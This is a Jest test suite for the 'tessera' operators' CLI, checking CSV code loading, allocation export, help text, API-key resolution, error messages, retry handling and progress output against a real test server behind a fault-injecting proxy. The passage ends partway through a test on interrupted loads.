// The operators' CLI (bin/tessera.js, src/cli/): load a CSV of codes in batches, export allocations as CSV.
// Every test runs the real bin in a child process against a real Tessera server; each child has a
// deadline (killed at RUN_TIMEOUT_MS, then the test fails on `timedOut`), so a hang fails a test
// instead of hanging Jest. Where a test needs a slow or broken network, a small HTTP proxy in front
// of the real server delays, holds or drops chosen requests.
import { spawn, type ChildProcess } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import { tempDir } from './helpers/tempDirs';
import { ADMIN_KEY, CLAIM, startTestServer, type TestServer } from './helpers/testServer';
import { sleep, until } from './helpers/time';
import { cellsOf } from './helpers/csvCells';

const BIN = path.resolve(__dirname, '../bin/tessera.js');
/** The ballot checker run alone, as anyone runs it on a published file. */
const VERIFIER = path.resolve(__dirname, '../bin/verify-ballot.js');
const RUN_TIMEOUT_MS = 30_000;
/** An error must end the process promptly: well under the bar's 2-second redraw, times a margin. */
const PROMPT_MS = 10_000;
const BAD_KEY = 'not-a-valid-key-0123456789';

interface Run {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
  ms: number;
  timedOut: boolean;
}

interface RunOptions {
  /** The script to run (default: bin/tessera.js). */
  bin?: string;
  cwd?: string;
  env?: Record<string, string>;
  input?: string;
  timeoutMs?: number;
  onStderr?: (stderr: string) => void;
}

const children = new Set<ChildProcess>();

/** The bin in a child process, in an empty directory, with none of the CLI's variables set. */
function start(args: string[], options: RunOptions = {}): { child: ChildProcess; done: Promise<Run> } {
  const env: NodeJS.ProcessEnv = { ...process.env };
  delete env.TESSERA_API_KEY;
  delete env.TESSERA_URL;
  delete env.ADMIN_API_KEY;
  const started = Date.now();
  const child = spawn(process.execPath, [options.bin ?? BIN, ...args], {
    cwd: options.cwd ?? cliDir(),
    env: { ...env, ...options.env },
    stdio: ['pipe', 'pipe', 'pipe'],
  });
  children.add(child);
  let stdout = '';
  let stderr = '';
  let timedOut = false;
  const timer = setTimeout(() => {
    timedOut = true;
    child.kill('SIGKILL');
  }, options.timeoutMs ?? RUN_TIMEOUT_MS);
  child.stdout!.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr!.on('data', (chunk: Buffer) => {
    stderr += chunk.toString();
    options.onStderr?.(stderr);
  });
  child.stdin!.on('error', () => undefined);
  child.stdin!.end(options.input ?? '');
  const done = new Promise<Run>((resolve) =>
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      children.delete(child);
      resolve({ code, signal, stdout, stderr, ms: Date.now() - started, timedOut });
    }),
  );
  return { child, done };
}

const tessera = (args: string[], options: RunOptions = {}): Promise<Run> => start(args, options).done;

const cliDir = () => tempDir('tessera-cli-');

/** Help text with its line breaks and indents as single spaces: commander wraps the help to the terminal's width. */
const words = (text: string) => text.replace(/\s+/g, ' ');

/** The lines of stderr that are messages (not progress bars). */
const messages = (run: Run) => run.stderr.split('\n').filter((line) => line.startsWith('tessera:'));

/** Ended by itself, promptly, with this status and exactly one "tessera: …" line on stderr. */
function expectOneError(run: Run, code: number, pattern: RegExp): void {
  expect({ timedOut: run.timedOut, signal: run.signal, code: run.code }).toEqual({ timedOut: false, signal: null, code });
  expect(run.ms).toBeLessThan(PROMPT_MS);
  expect(messages(run)).toHaveLength(1);
  expect(messages(run)[0]).toMatch(pattern);
}

function expectSuccess(run: Run): void {
  expect({ timedOut: run.timedOut, code: run.code, messages: messages(run) }).toEqual({ timedOut: false, code: 0, messages: [] });
}

/** RFC 4180: rows of cells, each with its text as written (`raw`) and its value. */
function parseCsv(text: string): { raw: string; value: string }[][] {
  const rows: { raw: string; value: string }[][] = [];
  let row: { raw: string; value: string }[] = [];
  let i = 0;
  while (i < text.length) {
    let raw: string;
    let value = '';
    if (text[i] === '"') {
      let j = i + 1;
      for (;;) {
        const quote = text.indexOf('"', j);
        if (quote === -1) throw new Error(`unterminated quote at ${i}`);
        value += text.slice(j, quote);
        if (text[quote + 1] === '"') {
          value += '"';
          j = quote + 2;
        } else {
          j = quote + 1;
          break;
        }
      }
      raw = text.slice(i, j);
      i = j;
    } else {
      const end = text.slice(i).search(/[,\n]/);
      raw = end === -1 ? text.slice(i) : text.slice(i, i + end);
      value = raw;
      i += raw.length;
    }
    row.push({ raw, value });
    if (text[i] === ',') i += 1;
    else {
      rows.push(row);
      row = [];
      i += 1; // the newline
    }
  }
  return rows;
}

/** What the export's documentation promises: drop the ' at the start and the ' right after each , ; tab, CR or LF. */
const unescape = (cell: string) => cell.replace(/^'/, '').replace(/([,;\t\r\n])'/g, '$1');

/** A value a spreadsheet would take for a formula (or strip down to one). */
const FORMULA_LIKE = /^(?:[\t\r\n\0]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;

interface Proxy {
  url: string;
  /** Requests received so far. */
  received: number;
  /** Codes acknowledged (loaded + duplicates) in loadTickets answers already sent on to the CLI. */
  acknowledged: number;
  close(): void;
}

type ProxyAction = 'forward' | 'hold' | 'drop' | 'busy';

/**
 * An HTTP proxy in front of the test server. `decide` sees each request (1-based) and answers
 * 'forward', 'hold' (never answer), 'drop' (close the connection) or 'busy' (503 UNAVAILABLE with
 * Retry-After: 0, as the server answers when its database is busy), after any delay it likes.
 */
async function startProxy(decide: (n: number, body: string) => Promise<ProxyAction> | ProxyAction): Promise<Proxy> {
  const sockets = new Set<net.Socket>();
  const state = { received: 0, acknowledged: 0 };
  const proxy = http.createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks).toString();
    state.received += 1;
    const action = await decide(state.received, body);
    if (action === 'hold') return;
    if (action === 'drop') return void req.socket.destroy();
    if (action === 'busy') {
      res.writeHead(503, { 'content-type': 'application/json', 'retry-after': '0' });
      return void res.end(JSON.stringify({ errors: [{ message: 'The database is busy or unreachable; retry shortly.', extensions: { code: 'UNAVAILABLE' } }] }));
    }
    const upstream = await fetch(server.url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: req.headers.authorization ?? '' },
      body,
    });
    const text = await upstream.text();
    const data = JSON.parse(text).data;
    if (data?.loadTickets) state.acknowledged += data.loadTickets.loaded + data.loadTickets.duplicates;
    res.writeHead(upstream.status, { 'content-type': 'application/json' });
    res.end(text);
  });
  proxy.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  const { port } = proxy.address() as net.AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    get received() {
      return state.received;
    },
    get acknowledged() {
      return state.acknowledged;
    },
    close() {
      for (const socket of sockets) socket.destroy();
      proxy.close();
    },
  };
}

async function waitFor(condition: () => boolean, what: string, ms = 15_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await sleep(20);
  }
}

function codesFile(dir: string, lines: string[]): string {
  const file = path.join(dir, 'codes.csv');
  writeFileSync(file, lines.join('\n'));
  return file;
}

let server: TestServer;
let base: string;
/** A campaign with 230 allocations (three pages), for the export tests. */
let bigCampaign: string;
beforeAll(async () => {
  server = await startTestServer({ verifyAtStop: false });
  base = server.url.replace(/\/graphql$/, '');
  const partner = await server.createPartner('CSV, Inc.');
  bigCampaign = await server.openCampaignWith(250);
  await Promise.all(
    Array.from({ length: 230 }, (_, i) => server.gql(partner.apiKey, CLAIM, { input: { campaignId: bigCampaign, holder: `h${i}`, metadata: { note: `a "quoted", ${i}` } } })),
  );
});
afterAll(async () => {
  for (const child of children) child.kill('SIGKILL');
  await server.stop();
});

describe('the happy paths', () => {
  test('tessera load reads a CSV in batches, counts duplicates, and reports its progress', async () => {
    const file = codesFile(cliDir(), ['code,comment', ...Array.from({ length: 25_000 }, (_, i) => `CLI-${i},"row ${i}"`), 'CLI-7,duplicate']);
    const campaignId = await server.createCampaign();
    const run = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', base, '--key', ADMIN_KEY, '--batch', '4000']);
    expectSuccess(run);
    expect(run.stderr).toMatch(/25001 codes read, 25000 loaded, 1 duplicates skipped/);
    expect(run.stderr).toMatch(/loading \|.*\| 100% \| 25001 of 25001 codes loaded \| 1 duplicates/);
    const stats = await server.gql(ADMIN_KEY, 'query($id: ID!) { campaign(id: $id) { stats { total } } }', { id: campaignId });
    expect(stats.body.data!.campaign.stats.total).toBe(25_000);
  });

  test('tessera load reads standard input with --file -, and unquotes RFC 4180 fields and a byte-order mark', async () => {
    const campaignId = await server.createCampaign();
    const input = ['\uFEFFcode,comment', '"Q,1",first', '"Q""2"', '  Q3  ,third', '', 'Q4'].join('\r\n');
    const run = await tessera(['load', '--campaign', campaignId, '--file', '-', '--url', base, '--key', ADMIN_KEY], { input });
    expectSuccess(run);
    expect(run.stderr).toMatch(/4 codes read, 4 loaded, 0 duplicates skipped/);
    const { rows } = await server.sql.query('SELECT code FROM tickets WHERE campaign_id = $1 ORDER BY code', [campaignId]);
    expect(rows.map((r) => r.code)).toEqual(['Q"2', 'Q,1', 'Q3', 'Q4']);
  });

  test('tessera load reads quoted commas, doubled quotes and line breaks inside a record whole, and names the lines after them right', async () => {
    const campaignId = await server.createCampaign();
    const input = ['code,comment', 'FIRST,"a\r\nnote"', '"COMMA,IN"', '"SAY ""HI"""', '"QUOTED ""LINE""","two\nlines"', 'LAST'].join('\n');
    const run = await tessera(['load', '--campaign', campaignId, '--file', '-', '--url', base, '--key', ADMIN_KEY], { input });
    expectSuccess(run);
    expect(run.stderr).toMatch(/5 codes read, 5 loaded, 0 duplicates skipped/);
    const { rows } = await server.sql.query('SELECT code FROM tickets WHERE campaign_id = $1', [campaignId]);
    expect(rows.map((r) => r.code).sort()).toEqual(['COMMA,IN', 'FIRST', 'LAST', 'QUOTED "LINE"', 'SAY "HI"'].sort());

    // A bad code after records of several lines is named by the line it is on.
    const tooLong = `LONG${'X'.repeat(200)}`;
    const file = codesFile(cliDir(), [input, `"${tooLong}"`]);
    const failed = await tessera(['load', '--campaign', await server.createCampaign(), '--file', file, '--url', base, '--key', ADMIN_KEY]);
    expectOneError(failed, 1, /^tessera: BAD_USER_INPUT: codes\[\d+\] must be 1 to 128 characters/);
    expect(messages(failed)[0]).toContain(`${file} line 9: "${tooLong}"`);
  });

  test('a code with a quoted line break is read as one code (which loadTickets refuses: no control characters), not split in two', async () => {
    const campaignId = await server.createCampaign();
    const input = ['OK-1', '"LINE\nBREAK",comment', 'OK-2'].join('\r\n');
    const run = await tessera(['load', '--campaign', campaignId, '--file', '-', '--url', base, '--key', ADMIN_KEY], { input });
    expectOneError(run, 1, /^tessera: BAD_USER_INPUT: codes\[\d+\] must be 1 to 128 characters, without control characters/);
    expect(messages(run)[0]).toContain('line 2 of standard input: "LINE\\nBREAK"');
    const { rows } = await server.sql.query('SELECT count(*)::int AS n FROM tickets WHERE campaign_id = $1', [campaignId]);
    expect(rows[0].n).toBe(0);
  });

  test('tessera load refuses a file whose quote is never closed, naming the file', async () => {
    const file = codesFile(cliDir(), ['OK-1', '"OPEN-2', 'OK-3']);
    const run = await tessera(['load', '--campaign', await server.createCampaign(), '--file', file, '--url', base, '--key', ADMIN_KEY]);
    expectOneError(run, 1, new RegExp(`^tessera: cannot read ${file}: .*Quote Not Closed`));
  });

  test('tessera export writes every allocation as a CSV row', async () => {
    const out = path.join(cliDir(), 'allocations.csv');
    const run = await tessera(['export', '--campaign', bigCampaign, '--out', out, '--url', base, '--key', ADMIN_KEY]);
    expectSuccess(run);
    expect(run.stderr).toMatch(new RegExp(`230 allocations exported to ${out}`));
    const lines = readFileSync(out, 'utf8').trim().split('\n');
    expect(lines[0]).toBe('sequence,allocation_id,ticket_code,holder,partner_id,partner_name,status,allocated_at,expires_at,released_at,idempotency_key,metadata');
    expect(lines).toHaveLength(231);
    expect(lines.slice(1).every((l) => l.includes('"CSV, Inc."'))).toBe(true);
    expect(new Set(lines.slice(1).map((l) => l.split(',')[2])).size).toBe(230);
    const rows = parseCsv(readFileSync(out, 'utf8'));
    expect(rows.slice(1).map((r) => JSON.parse(r[11].value).note)).toEqual(expect.arrayContaining(['a "quoted", 0', 'a "quoted", 229']));
  });

  test('tessera export without --out writes the CSV to standard output', async () => {
    const run = await tessera(['export', '--campaign', bigCampaign, '--url', base, '--key', ADMIN_KEY]);
    expectSuccess(run);
    expect(run.stdout.trim().split('\n')).toHaveLength(231);
    expect(run.stderr).toMatch(/230 allocations exported\n/);
  });
});

describe('help and usage', () => {
  test.each(['--help', '-h', 'help', 'help load', 'help export', 'load --help', 'load -h', 'export --help', 'export -h', 'load --campaign x --help'])(
    'tessera %s prints help on standard output and exits 0',
    async (args) => {
      const run = await tessera(args.split(' '));
      expectSuccess(run);
      expect(run.stdout).toMatch(/^Usage: tessera /);
      expect(run.stderr).toBe('');
    },
  );

  test('load --help says what --batch is (codes per request, at most 10,000) and ties no other figure to it', async () => {
    const run = await tessera(['load', '--help']);
    const text = words(run.stdout);
    expect(text).toContain('--batch <n> codes per loadTickets request, 1 to 10,000 (the most one call takes; default 10,000)');
    expect(text).toContain('in requests of --batch codes each: the file is read in parts of up to 1,000,000 codes, each sorted');
    expect(text).not.toMatch(/up to 1,000,000 at a time/);
  });

  test('the help of each command names its own options and the three places a key comes from', async () => {
    const load = await tessera(['load', '--help']);
    expect(load.stdout).toMatch(/^Usage: tessera load --campaign <id> --file/);
    expect(load.stdout).toMatch(/--batch <n>/);
    const exported = await tessera(['export', '--help']);
    expect(exported.stdout).toMatch(/^Usage: tessera export --campaign <id>/);
    expect(words(exported.stdout)).toContain("remove one leading '");
    for (const run of [load, exported]) expect(run.stdout).toMatch(/--key <key>[\s\S]*TESSERA_API_KEY[\s\S]*\.tessera\/admin-api-key/);
  });

  test('a bare tessera prints the usage on standard error and exits 2', async () => {
    const run = await tessera([]);
    expect({ code: run.code, timedOut: run.timedOut, stdout: run.stdout }).toEqual({ code: 2, timedOut: false, stdout: '' });
    expect(run.stderr).toMatch(/^Usage: tessera <command>/);
  });

  test.each([
    [['frobnicate'], /^tessera: unknown command: frobnicate /],
    [['help', 'frobnicate'], /^tessera: unknown command: frobnicate /],
    [['load', '--frobnicate'], /^tessera: unknown option: --frobnicate \(see: tessera load --help\)$/],
    [['export', '--file', 'codes.csv'], /^tessera: unknown option: --file /],
    [['--url', 'http://x', 'load'], /^tessera: unknown option: --url \(the command comes first/],
    [['export', '--campaign', 'c', 'stray'], /^tessera: unexpected argument: stray /],
    [['load', '--campaign', 'c', '--file', 'f.csv', '--key'], /^tessera: --key needs a value /],
    [['load', '--campaign', 'c', '--file', 'f.csv', '--key', '--url', 'http://x'], /^tessera: --key needs a value /],
    [['load', '--campaign', 'c', '--file', 'f.csv', '--batch', '20000'], /^tessera: --batch must be a whole number from 1 to 10000 \(got "20000"\)/],
    [['export', '--campaign', 'c', '--timeout', '0'], /^tessera: --timeout must be a number of seconds/],
    [['export', '--campaign', 'c', '--url', 'ftp://example.com'], /^tessera: --url must start with http:\/\/ or https:\/\//],
    [['export'], /^tessera: --campaign <id> is required /],
    [['load', '--campaign', 'c'], /^tessera: --file <codes.csv> \(or - for standard input\) is required/],
    [['load', '--campaign', 'c', '--file', '/no/such/codes.csv'], /^tessera: cannot read \/no\/such\/codes.csv: no such file or directory$/],
  ])('wrong usage %j names what is wrong in one line and exits 2', async (args, pattern) => {
    const run = await tessera(args, { env: { TESSERA_API_KEY: ADMIN_KEY } });
    expectOneError(run, 2, pattern);
    expect(run.stdout).toBe('');
  });

  test('tessera without a key or a campaign explains what it needs', async () => {
    const run = await tessera(['export', '--url', base], { env: { ADMIN_API_KEY: '', TESSERA_API_KEY: '' } });
    expectOneError(run, 2, /--campaign <id> is required/);
  });
});

describe('the API key', () => {
  const exportWith = (options: RunOptions, args: string[] = []) => tessera(['export', '--campaign', bigCampaign, '--url', base, ...args], options);

  test('without --key, TESSERA_API_KEY or .tessera/admin-api-key the command names all three places and exits 2', async () => {
    const cwd = cliDir();
    const run = await exportWith({ cwd });
    expectOneError(run, 2, /^tessera: no API key: pass --key <key>, set TESSERA_API_KEY, or run from the directory where `npm start` wrote \.tessera\/admin-api-key/);
    expect(run.stderr).toContain(path.join(cwd, '.tessera', 'admin-api-key'));
    // The server's ADMIN_API_KEY is not one of the three places, and the message says so.
    const withServerVariable = await exportWith({ cwd, env: { ADMIN_API_KEY: ADMIN_KEY } });
    expectOneError(withServerVariable, 2, /^tessera: no API key: .*; ADMIN_API_KEY is the server's setting and is not read here: pass --key "\$ADMIN_API_KEY"$/);
  });

  test('the key is read from .tessera/admin-api-key in the current directory, as npm start writes it in development', async () => {
    const cwd = cliDir();
    mkdirSync(path.join(cwd, '.tessera'));
    writeFileSync(path.join(cwd, '.tessera', 'admin-api-key'), `${ADMIN_KEY}\n`, { mode: 0o600 });
    const run = await exportWith({ cwd });
    expectSuccess(run);
    expect(run.stdout.trim().split('\n')).toHaveLength(231);
  });

  test('TESSERA_API_KEY comes before the key file, and --key before both', async () => {
    const cwd = cliDir();
    mkdirSync(path.join(cwd, '.tessera'));
    writeFileSync(path.join(cwd, '.tessera', 'admin-api-key'), `${ADMIN_KEY}\n`);
    const envFirst = await exportWith({ cwd, env: { TESSERA_API_KEY: BAD_KEY } });
    expectOneError(envFirst, 1, /^tessera: the API key from TESSERA_API_KEY was refused by http:\/\/127\.0\.0\.1:\d+\/graphql \(UNAUTHENTICATED: A valid API key is required/);
    const flagFirst = await exportWith({ cwd, env: { TESSERA_API_KEY: BAD_KEY } }, ['--key', ADMIN_KEY]);
    expectSuccess(flagFirst);
  });

  test('an empty --key (a variable that expanded to nothing) is refused before any request', async () => {
    const run = await exportWith({}, ['--key', '']);
    expectOneError(run, 2, /^tessera: --key is empty/);
  });

  test('a refused key is reported with the server code and message and where the key came from', async () => {
    const cwd = cliDir();
    mkdirSync(path.join(cwd, '.tessera'));
    writeFileSync(path.join(cwd, '.tessera', 'admin-api-key'), `${BAD_KEY}\n`);
    const fromFile = await tessera(['load', '--campaign', randomUUID(), '--file', '-', '--url', base], { cwd, input: 'A1\n' });
    expectOneError(fromFile, 1, new RegExp(`^tessera: the API key from the file ${path.join(cwd, '.tessera', 'admin-api-key')} was refused by .* \\(UNAUTHENTICATED: `));
  });

  test("a partner's key is told that loading needs the admin key", async () => {
    const partner = await server.createPartner('Loader');
    const campaignId = await server.createCampaign();
    const file = codesFile(cliDir(), ['P-1', 'P-2']);
    const run = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', base, '--key', partner.apiKey]);
    expectOneError(run, 1, /^tessera: the API key from --key is not allowed to do this; the admin key is needed \(FORBIDDEN: This operation needs an operator key with the OPERATOR role \(or the admin key\)\.\)/);
  });
});

describe('errors end the process at once, with one message', () => {
  test('tessera load with an unknown campaign says so and exits 1 without starting its progress bar', async () => {
    const file = codesFile(cliDir(), ['A-1', 'A-2']);
    for (const id of [randomUUID(), 'not-a-campaign-id']) {
      const run = await tessera(['load', '--campaign', id, '--file', file, '--url', base, '--key', ADMIN_KEY]);
      expectOneError(run, 1, new RegExp(`^tessera: no campaign ${id} at ${server.url} \\(check --campaign\\)$`));
      expect(run.stderr).not.toMatch(/loading/);
    }
  });

  test('tessera load into a CLOSED campaign says so before loading anything', async () => {
    const campaignId = await server.openCampaignWith(1);
    await server.gql(ADMIN_KEY, 'mutation($id: ID!) { closeCampaign(id: $id) { campaign { id } } }', { id: campaignId });
    const run = await tessera(['load', '--campaign', campaignId, '--file', '-', '--url', base, '--key', ADMIN_KEY], { input: 'C-1\n' });
    expectOneError(run, 1, /^tessera: CAMPAIGN_CLOSED: campaign .* is CLOSED; tickets cannot be added to it$/);
  });

  test('an unreachable server is named with the reason, for load and export alike', async () => {
    const file = codesFile(cliDir(), ['A-1']);
    const load = await tessera(['load', '--campaign', randomUUID(), '--file', file, '--url', 'http://127.0.0.1:1', '--key', ADMIN_KEY]);
    expectOneError(load, 1, /^tessera: could not reach http:\/\/127\.0\.0\.1:1\/graphql: connection refused$/);
    const out = path.join(cliDir(), 'allocations.csv');
    const exported = await tessera(['export', '--campaign', randomUUID(), '--out', out, '--url', 'http://127.0.0.1:1/graphql', '--key', ADMIN_KEY]);
    expectOneError(exported, 1, /^tessera: could not reach http:\/\/127\.0\.0\.1:1\/graphql: connection refused; .* was not written$/);
    expect(existsSync(out)).toBe(false);
  });

  test('an address that is not a Tessera server is named, with its HTTP status', async () => {
    const html = http.createServer((_req, res) => res.writeHead(404, { 'content-type': 'text/html' }).end('<h1>Not here</h1>'));
    await new Promise<void>((resolve) => html.listen(0, '127.0.0.1', resolve));
    const { port } = html.address() as net.AddressInfo;
    try {
      const run = await tessera(['export', '--campaign', randomUUID(), '--url', `http://127.0.0.1:${port}`, '--key', ADMIN_KEY]);
      expectOneError(run, 1, new RegExp(`^tessera: http://127\\.0\\.0\\.1:${port}/graphql answered HTTP 404 \\(text/html\\) instead of GraphQL: is the URL a Tessera server\\?$`));
    } finally {
      html.close();
    }
  });

  test('every request has a deadline: a server that accepts but never answers fails the command after --timeout', async () => {
    const sockets = new Set<net.Socket>();
    const silent = net.createServer((socket) => {
      sockets.add(socket);
      socket.on('error', () => undefined);
    });
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    const { port } = silent.address() as net.AddressInfo;
    try {
      const url = `http://127.0.0.1:${port}`;
      const file = codesFile(cliDir(), ['A-1']);
      const load = await tessera(['load', '--campaign', randomUUID(), '--file', file, '--url', url, '--key', ADMIN_KEY, '--timeout', '1']);
      expectOneError(load, 1, new RegExp(`^tessera: no answer from ${url}/graphql within 1 s \\(--timeout\\)$`));
      expect(load.ms).toBeGreaterThanOrEqual(1000);
      const exported = await tessera(['export', '--campaign', randomUUID(), '--url', url, '--key', ADMIN_KEY, '--timeout', '0.5']);
      expectOneError(exported, 1, new RegExp(`^tessera: no answer from ${url}/graphql within 0.5 s \\(--timeout\\)$`));
    } finally {
      for (const socket of sockets) socket.destroy();
      silent.close();
    }
  });

  test('a load that fails part-way stops at once, names the line, says how far it got, and can simply be run again', async () => {
    const campaignId = await server.createCampaign();
    const dir = cliDir();
    // Zero-padded: the codes' sorted order (the order the CLI sends them) is the file's.
    const codes = Array.from({ length: 3000 }, (_, i) => `PART-${String(i).padStart(4, '0')}`);
    const broken = [...codes];
    const tooLong = `PART-1500${'X'.repeat(200)}`;
    broken[1500] = tooLong; // too long: loadTickets refuses the whole second batch
    const file = codesFile(dir, ['code', ...broken]);
    const first = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', base, '--key', ADMIN_KEY, '--batch', '1000', '--concurrency', '1']);
    expectOneError(first, 1, /^tessera: BAD_USER_INPUT: codes\[500\] must be 1 to 128 characters/);
    expect(messages(first)[0]).toContain(`${file} line 1502: "${tooLong}"`);
    expect(messages(first)[0]).toMatch(/; 1000 of 3000 codes had been acknowledged \(1000 loaded, 0 duplicates\): run the same command again/);
    // The third batch was never sent.
    const { rows } = await server.sql.query('SELECT count(*)::int AS n FROM tickets WHERE campaign_id = $1', [campaignId]);
    expect(rows[0].n).toBe(1000);

    codesFile(dir, ['code', ...codes]);
    const again = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', base, '--key', ADMIN_KEY, '--batch', '1000']);
    expectSuccess(again);
    expect(again.stderr).toMatch(/3000 codes read, 2000 loaded, 1000 duplicates skipped/);
  });
});

describe('load order', () => {
  test('codes go out sorted, a window at a time; errors still name the line a code came from', async () => {
    const campaignId = await server.createCampaign();
    const codes = Array.from({ length: 2500 }, (_, i) => `ORD-${String(i).padStart(4, '0')}`);
    // Shuffled, with a repeat: two windows of 1,200 and one of 101 codes.
    const shuffled = [...codes].sort(() => Math.random() - 0.5);
    const file = codesFile(cliDir(), ['code', ...shuffled, shuffled[0]!]);
    const batches: string[][] = [];
    const proxy = await startProxy((_n, body) => {
      const { variables } = JSON.parse(body) as { variables?: { codes?: string[] } };
      if (variables?.codes) batches.push(variables.codes);
      return 'forward';
    });
    try {
      const env = { TESSERA_LOAD_SORT_WINDOW: '1200' };
      const run = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', proxy.url, '--key', ADMIN_KEY, '--batch', '500', '--concurrency', '1'], { env });
      expectSuccess(run);
      expect(run.stderr).toMatch(/2501 codes read, 2500 loaded, 1 duplicates skipped/);
      // Each window is sent in order, in batches of 500 or what is left of it.
      expect(batches.map((batch) => batch.length)).toEqual([500, 500, 200, 500, 500, 200, 101]);
      const windows = [batches.slice(0, 3).flat(), batches.slice(3, 6).flat(), batches[6]!];
      for (const window of windows) expect(window).toEqual([...window].sort());
      expect(new Set(batches.flat())).toEqual(new Set(codes));
      const { rows } = await server.sql.query('SELECT count(*)::int AS n FROM tickets WHERE campaign_id = $1', [campaignId]);
      expect(rows[0].n).toBe(2500);

      // A bad code sorted into the middle of a window is still reported by its line.
      const badLine = shuffled.indexOf('ORD-0700') + 2; // after the header, 1-based
      shuffled[badLine - 2] = `ORD-0700${'Z'.repeat(200)}`;
      const broken = codesFile(cliDir(), ['code', ...shuffled]);
      const other = await server.createCampaign();
      const failed = await tessera(['load', '--campaign', other, '--file', broken, '--url', base, '--key', ADMIN_KEY, '--batch', '500', '--concurrency', '1'], { env });
      expectOneError(failed, 1, /^tessera: BAD_USER_INPUT: codes\[\d+\] must be 1 to 128 characters/);
      expect(messages(failed)[0]).toContain(`${broken} line ${badLine}: "ORD-0700${'Z'.repeat(200)}"`);
    } finally {
      proxy.close();
    }
  });
});

describe('a busy server', () => {
  test('a 503 answer with Retry-After is asked again, and the load completes with nothing lost or doubled', async () => {
    const campaignId = await server.createCampaign();
    const file = codesFile(cliDir(), Array.from({ length: 3000 }, (_, i) => `BUSY-${i}`));
    let loads = 0;
    const proxy = await startProxy((_n, body) => (body.includes('loadTickets') && ++loads % 2 === 1 ? 'busy' : 'forward'));
    try {
      const run = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', proxy.url, '--key', ADMIN_KEY, '--batch', '1000']);
      expectSuccess(run);
      expect(run.stderr).toMatch(/3000 codes read, 3000 loaded, 0 duplicates skipped/);
      expect(loads).toBe(6);
    } finally {
      proxy.close();
    }
  });

  test('a server that stays busy fails the command with its code and message after a few attempts', async () => {
    const proxy = await startProxy(() => 'busy');
    try {
      const run = await tessera(['export', '--campaign', bigCampaign, '--url', proxy.url, '--key', ADMIN_KEY]);
      expectOneError(run, 1, /^tessera: UNAVAILABLE: The database is busy or unreachable; retry shortly\.$/);
      expect(proxy.received).toBe(6);
      expect(run.stdout).toBe('');
    } finally {
      proxy.close();
    }
  });
});

describe('progress and interruption', () => {
  test('the load progress bar counts codes the server has acknowledged, not bytes read', async () => {
    const campaignId = await server.createCampaign();
    const file = codesFile(cliDir(), Array.from({ length: 5000 }, (_, i) => `BAR-${i}`));
    // Each loadTickets answer takes 800 ms: the whole file is read long before the load is done.
    const proxy = await startProxy(async (_n, body) => {
      if (body.includes('loadTickets')) await sleep(800);
      return 'forward' as const;
    });
    const shown: { count: number; acknowledged: number }[] = [];
    try {
      const run = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', proxy.url, '--key', ADMIN_KEY, '--batch', '1000', '--concurrency', '1'], {
        onStderr: (stderr) => {
          for (const match of stderr.matchAll(/(\d+) of 5000 codes loaded/g)) shown.push({ count: Number(match[1]), acknowledged: proxy.acknowledged });
        },
      });
      expectSuccess(run);
      const lines = run.stderr.split('\n').filter((line) => line.startsWith('loading'));
      const counts = lines.map((line) => Number(/(\d+) of 5000 codes loaded/.exec(line)![1]));
      const percents = lines.map((line) => Number(/(\d+)%/.exec(line)![1]));
      expect(counts[0]).toBe(0);
      expect(counts[counts.length - 1]).toBe(5000);
      // Some line in between shows a load under way (the bytes-read bar showed 100% here).
      expect(counts.some((count) => count > 0 && count < 5000)).toBe(true);
      expect(percents.some((percent) => percent > 0 && percent < 100)).toBe(true);
      expect(counts.every((count) => count % 1000 === 0)).toBe(true);
      expect(counts).toEqual([...counts].sort((a, b) => a - b));
      // Never ahead of the server: every figure shown had already been acknowledged when it appeared.
      for (const { count, acknowledged } of shown) expect(count).toBeLessThanOrEqual(acknowledged);
    } finally {
      proxy.close();
    }
  });

  test('piped, the load progress is lines of their own: one at each tenth of the codes, rising, never redrawn in place', async () => {
    const campaignId = await server.createCampaign();
    const file = codesFile(cliDir(), Array.from({ length: 10_000 }, (_, i) => `TENTH-${i}`));
    const run = await tessera(['load', '--campaign', campaignId, '--file', file, '--url', base, '--key', ADMIN_KEY, '--batch', '500', '--concurrency', '1']);
    expectSuccess(run);
    expect(run.stderr).not.toContain('\r');
    const lines = run.stderr.split('\n').filter((line) => line.startsWith('loading'));
    for (const line of lines) expect(line).toMatch(/^loading \|[█░]{40}\| \d+% \| \d+ of 10000 codes loaded \| 0 duplicates \| \d+ codes\/s$/);
    const percents = lines.map((line) => Number(/(\d+)%/.exec(line)![1]));
    // Each tenth once (a slow machine adds a line every 2 s between them: never one twice).
    for (let tenth = 0; tenth <= 100; tenth += 10) expect(percents.filter((percent) => percent === tenth)).toHaveLength(1);
    expect(percents).toEqual([...new Set(percents)].sort((x, y) => x - y));
  });

  test('an interrupted load stops its progress bar and says how many codes were loaded', async () => {
    const campaignId = await server.createCampaign();
    const file = codesFile(cliDir(), Array.from({ length: 3000 }, (_, i) => `INT-${i}`));
    let loads = 0;
    const proxy = await startProxy((_n, body) => (body.includes('loadTickets') && ++loads > 1 ? 'hold' : 'forward'));
    try {
      const { child, done } = start(['load', '--campaign', campaignId, '--file', file, '--url', proxy.url, '--key', ADMIN_KEY, '--batch', '1000', '--concurrency', '1']);
